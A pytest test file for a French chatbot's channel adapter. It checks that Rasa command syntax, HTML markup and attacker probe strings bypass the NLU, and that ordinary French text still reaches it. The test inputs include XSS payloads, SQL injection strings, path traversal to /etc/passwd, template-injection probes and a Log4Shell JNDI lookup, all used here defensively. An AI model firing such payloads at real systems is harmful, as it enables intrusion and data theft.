"""What the channels hand to the dialogue without asking the NLU: Rasa's typed syntax, HTML markup, code probes."""
import pytest

from bot.adapters.channels import NOT_UNDERSTOOD, not_for_the_nlu


@pytest.mark.parametrize("text", ["/restart", '/inform{"age": 200}', "<script>alert(1)</script>",
                                  "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "<b>bonjour</b>",
                                  "bonjour <br>", "<br/>", "<iframe src=//evil.example></iframe>",
                                  "<a href='x'>clic</a>",
                                  # other probes of someone testing the site
                                  "'; DROP TABLE events; --", "1' OR '1'='1", "admin'--", "x' or 1=1 #",
                                  "UNION SELECT password FROM users", "select * from events", "drop table users",
                                  "../../etc/passwd", "..\\..\\windows\\win.ini", "{{7*7}}",
                                  "${jndi:ldap://x.example/a}", "<%= 7*7 %>", "javascript:alert(1)"])
def test_typed_syntax_and_markup_are_not_understood(text):
    parse = not_for_the_nlu(text)
    assert parse["text"] == text
    assert parse["intent"] == {"name": NOT_UNDERSTOOD, "confidence": 1.0}
    assert parse["entities"] == []


@pytest.mark.parametrize("text", ["bonjour", "j'ai <26 ans", "je t'aime <3", "a < b > c", "moins de 9000 € > ok ?",
                                  "c'est quoi la vae inversée ?",
                                  # French that shares a word or a sign with the probes
                                  "je suis développeur javascript : c'est possible ?", "l'or et l'argent = métaux",
                                  "j'ai 30 ans ; je veux devenir aide-soignant", "aujourd'hui -- enfin demain",
                                  "je veux un select de la formation", "l'update de mon dossier", "...", "../",
                                  "c'est 50/50", "{ok}", "un budget de 8 000 $ ?", "ça coûte 100 % ?"])
def test_ordinary_text_goes_to_the_nlu(text):
    assert not_for_the_nlu(text) is None
